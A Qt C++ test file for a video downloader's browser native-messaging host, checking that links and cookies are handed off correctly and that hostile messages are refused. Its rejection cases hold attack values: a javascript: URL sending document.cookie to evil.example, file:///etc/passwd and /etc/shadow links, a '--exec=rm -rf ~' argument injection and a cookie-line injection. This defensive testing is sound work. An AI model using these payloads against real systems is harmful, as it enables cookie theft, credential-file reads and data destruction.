#include "intake/browsermessage.h"
#include "platform/singleinstance.h"
#include "support/files.h"
#include "support/httpserver.h"
#include "support/processes.h"

#include <QDir>
#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QLockFile>
#include <QProcess>
#include <QScopeGuard>
#include <QSignalSpy>
#include <QTemporaryDir>
#include <QTest>

#include <csignal>

using namespace Qt::StringLiterals;

namespace {

QByteArray json(const QJsonObject &object)
{
    return QJsonDocument(object).toJson(QJsonDocument::Compact);
}

const QByteArray kSecret = "c00kie-v4lue-only-the-browser-knows";

QJsonObject loggedIn(const QString &url)
{
    return {{u"kind"_s, u"download"_s},
            {u"url"_s, url},
            {u"quality"_s, u"m4a"_s},
            {u"cookies"_s, QJsonArray{QJsonObject{{u"name"_s, u"session"_s},
                                                  {u"value"_s, QString::fromLatin1(kSecret)},
                                                  {u"domain"_s, u"127.0.0.1"_s},
                                                  {u"hostOnly"_s, true}}}}};
}

// The answers of a session, one JSON object each.
QList<QJsonObject> answersIn(QByteArray output)
{
    QList<QJsonObject> answers;
    while (output.size() >= 4) {
        quint32 length = 0;
        memcpy(&length, output.constData(), sizeof length);
        answers << QJsonDocument::fromJson(output.mid(4, length)).object();
        output.remove(0, 4 + qsizetype(length));
    }
    return answers;
}

} // namespace

// The built host, as a browser runs it: messages on its standard input, answers on its
// standard output, links handed to the instance listening on this user's socket.
class TestBrowserHost : public QObject
{
    Q_OBJECT

    std::unique_ptr<QTemporaryDir> m_home;
    QString m_socket;

    QProcessEnvironment environment() const
    {
        QProcessEnvironment env = QProcessEnvironment::systemEnvironment();
        env.insert(u"HOME"_s, m_home->path());
        env.insert(u"XDG_RUNTIME_DIR"_s, m_home->filePath(u"runtime"_s));
        env.insert(u"XDG_CONFIG_HOME"_s, m_home->filePath(u"config"_s));
        env.insert(u"XDG_DATA_HOME"_s, m_home->filePath(u"data"_s));
        env.insert(u"XDG_CACHE_HOME"_s, m_home->filePath(u"cache"_s));
        return env;
    }

    // Runs the host on `input` (the browser's side: framed messages, then the pipe closed,
    // unless `keepOpen`) and returns its answers once it has ended.
    QList<QJsonObject> session(const QByteArray &input, bool keepOpen = false, int timeoutMs = 20000)
    {
        QProcess host;
        host.setProcessEnvironment(environment());
        // As the browsers start it: the caller's origin, or the manifest and the add-on.
        host.start(QStringLiteral(VIRELOOM_BROWSER_HOST), {u"chrome-extension://fdgalamgdgiegcbnmdbopphkkopldjbi/"_s});
        if (!host.waitForStarted())
            return {};
        host.write(input);
        if (!keepOpen)
            host.closeWriteChannel();
        QByteArray output;
        // The event loop turns meanwhile: the instance in this process answers the host.
        const auto answered = [&] {
            output += host.readAllStandardOutput();
            return host.state() == QProcess::NotRunning || (keepOpen && !answersIn(output).isEmpty());
        };
        if (!QTest::qWaitFor(answered, timeoutMs)) {
            host.kill();
            host.waitForFinished();
            return {};
        }
        output += host.readAllStandardOutput();
        if (keepOpen) {
            host.closeWriteChannel();
            host.waitForFinished();
        }
        return answersIn(output);
    }

private slots:
    void init()
    {
        m_home = std::make_unique<QTemporaryDir>();
        QDir(m_home->path()).mkpath(u"runtime"_s);
        QFile::setPermissions(m_home->filePath(u"runtime"_s), QFileDevice::ReadOwner | QFileDevice::WriteOwner | QFileDevice::ExeOwner);
        // The socket path the host works out for itself, worked out the same way here.
        qputenv("XDG_RUNTIME_DIR", QFile::encodeName(m_home->filePath(u"runtime"_s)));
        qputenv("XDG_CACHE_HOME", QFile::encodeName(m_home->filePath(u"cache"_s)));
        m_socket = SingleInstance::defaultSocketPath();
        QVERIFY(m_socket.startsWith(m_home->path()));
    }

    void cleanup() { m_home.reset(); }

    void handsTheLinkToTheRunningInstance()
    {
        SingleInstance primary(m_socket);
        QCOMPARE(primary.claim({}), SingleInstance::Role::Primary);
        QSignalSpy received(&primary, &SingleInstance::argumentsReceived);

        const auto answers = session(BrowserMessage::framed(json(loggedIn(u"https://example.com/watch?v=1"_s))));
        QCOMPARE(answers, (QList<QJsonObject>{{{u"taken"_s, true}}}));
        QCOMPARE(received.size(), 1);
        const QStringList arguments = received.first().first().toStringList();
        QCOMPARE(arguments.size(), 1);
        const auto link = BrowserMessage::fromHandoff(arguments.first());
        QVERIFY(link);
        QCOMPARE(link->url, u"https://example.com/watch?v=1"_s);
        QCOMPARE(link->quality, std::optional<Quality>(Quality::m4a));
        QCOMPARE(link->cookies.size(), 1);
        QCOMPARE(link->cookies.first().value.toLatin1(), kSecret);
    }

    void refusesHostileMessagesAndChangesNothing_data()
    {
        QTest::addColumn<QByteArray>("input");
        QTest::addColumn<QString>("code");
        const auto download = [](const QJsonValue &url, const QJsonObject &more = {}) {
            QJsonObject object{{u"kind"_s, u"download"_s}, {u"url"_s, url}};
            for (auto it = more.begin(); it != more.end(); ++it)
                object.insert(it.key(), it.value());
            return BrowserMessage::framed(json(object));
        };
        QTest::newRow("file link") << download(u"file:///etc/passwd"_s) << u"bad-link"_s;
        QTest::newRow("javascript link") << download(u"javascript:fetch('//evil.example/'+document.cookie)"_s) << u"bad-link"_s;
        QTest::newRow("several links") << download(u"https://a.example/1 https://b.example/2"_s) << u"bad-link"_s;
        QTest::newRow("leading dash") << download(u"--exec=rm -rf ~"_s) << u"bad-link"_s;
        QTest::newRow("url a number") << download(42) << u"bad-field"_s;
        QTest::newRow("playlist a string") << download(u"https://example.com/"_s, {{u"playlist"_s, u"1"_s}}) << u"bad-field"_s;
        QTest::newRow("cookie breaking its line")
            << download(u"https://example.com/"_s, {{u"cookies"_s, QJsonArray{QJsonObject{{u"name"_s, u"a"_s},
                                                                                          {u"value"_s, u"1\n.evil.example\tTRUE"_s},
                                                                                          {u"domain"_s, u"example.com"_s}}}}})
            << u"bad-cookie"_s;
        QTest::newRow("not json") << BrowserMessage::framed("{\"kind\":") << u"not-json"_s;
        QTest::newRow("unknown kind") << BrowserMessage::framed(R"({"kind":"run","command":"xterm"})") << u"unknown-kind"_s;
        // A length past the limit: the host answers before the body has come, and reads no further.
        QByteArray oversized = BrowserMessage::framed("{}");
        const quint32 length = 2 << 20;
        memcpy(oversized.data(), &length, sizeof length);
        QTest::newRow("oversized") << oversized << u"too-large"_s;
        // The length promises more than the browser sends.
        QTest::newRow("cut short") << BrowserMessage::framed(json({{u"kind"_s, u"hello"_s}})).chopped(3) << u"not-json"_s;
    }

    void refusesHostileMessagesAndChangesNothing()
    {
        QFETCH(QByteArray, input);
        QFETCH(QString, code);
        SingleInstance primary(m_socket);
        QCOMPARE(primary.claim({}), SingleInstance::Role::Primary);
        QSignalSpy received(&primary, &SingleInstance::argumentsReceived);

        const auto answers = session(input, qstrcmp(QTest::currentDataTag(), "oversized") == 0);
        QCOMPARE(answers.size(), 1);
        QCOMPARE(answers.first().value(u"taken"_s), false);
        QCOMPARE(answers.first().value(u"code"_s).toString(), code);
        QVERIFY(!answers.first().value(u"reason"_s).toString().isEmpty());
        QCOMPARE(received.size(), 0);
    }

    // Several messages in one session; the last is refused, and the session goes on after it.
    void answersEachMessageInTurn()
    {
        QByteArray input = BrowserMessage::framed(R"({"kind":"hello"})");
        input += BrowserMessage::framed("{\"kind\":\"download\",\"url\":\"javascript:void(0)\"}");
        input += BrowserMessage::framed(R"({"kind":"hello"})");
        auto answers = session(input);
        QCOMPARE(answers.size(), 3);
        QCOMPARE(answers[0].value(u"ok"_s), true);
        QCOMPARE(answers[0].value(u"running"_s), false);
        QCOMPARE(answers[0].value(u"version"_s).toString(), QStringLiteral(VIRELOOM_VERSION));
        QCOMPARE(answers[1].value(u"code"_s), u"bad-link"_s);
        QCOMPARE(answers[2].value(u"ok"_s), true);

        SingleInstance primary(m_socket);
        QCOMPARE(primary.claim({}), SingleInstance::Role::Primary);
        answers = session(BrowserMessage::framed(R"({"kind":"hello"})"));
        QCOMPARE(answers.size(), 1);
        QCOMPARE(answers[0].value(u"running"_s), true);
    }

    // With no Vireloom running, a refused message starts none.
    void refusalStartsNothing()
    {
        const auto answers = session(BrowserMessage::framed("{\"kind\":\"download\",\"url\":\"file:///etc/shadow\"}"));
        QCOMPARE(answers.size(), 1);
        QCOMPARE(answers.first().value(u"code"_s), u"bad-link"_s);
        QVERIFY(!SingleInstance::isListening(m_socket));
        QVERIFY(!QFileInfo::exists(m_socket + u".lock"_s));
    }

    // With none running, the host starts Vireloom in the tray, waits until it listens and
    // hands it the link, which its queue then holds.
    void startsVireloomWhenNoneRuns()
    {
        HttpServer server;
        QVERIFY(server.listen());
        // The download stays under way until the test ends it, so the journal shows it.
        HttpServer::Response stalled{200, QByteArray(200000, 'x'), {}, "video/mp4"};
        stalled.stallAfter = 1000;
        server.route(u"/clip.mp4"_s, stalled);
        // Only the local server is ever asked: no look at the release location.
        QDir(m_home->path()).mkpath(u"config/Vireloom"_s);
        QVERIFY(writeFile(m_home->filePath(u"config/Vireloom/Vireloom.conf"_s), "[General]\ncheckEngineUpdates=false\n"));

        const QString link = server.url(u"/clip.mp4"_s).toString();
        const auto answers = session(BrowserMessage::framed(json(loggedIn(link))), false, 60000);
        qint64 pid = 0;
        QLockFile lock(m_socket + u".lock"_s);
        lock.getLockInfo(&pid, nullptr, nullptr);
        const auto stop = qScopeGuard([pid] {
            if (pid > 0) {
                ::kill(pid_t(pid), SIGTERM);
                QTRY_VERIFY_WITH_TIMEOUT(!processAlive(pid), 20000);
            }
        });
        QCOMPARE(answers, (QList<QJsonObject>{{{u"taken"_s, true}}}));
        QVERIFY(pid > 0);
        QVERIFY(SingleInstance::isListening(m_socket));
        const QString journal = m_home->filePath(u"data/Vireloom/queue.json"_s);
        QTRY_VERIFY_WITH_TIMEOUT(readFile(journal).contains(link.toUtf8()), 30000);
        // It went on in the tray: a second message finds it running.
        QCOMPARE(session(BrowserMessage::framed(R"({"kind":"hello"})")).value(0).value(u"running"_s), true);
    }
};

QTEST_GUILESS_MAIN(TestBrowserHost)
#include "tst_browserhost.moc"
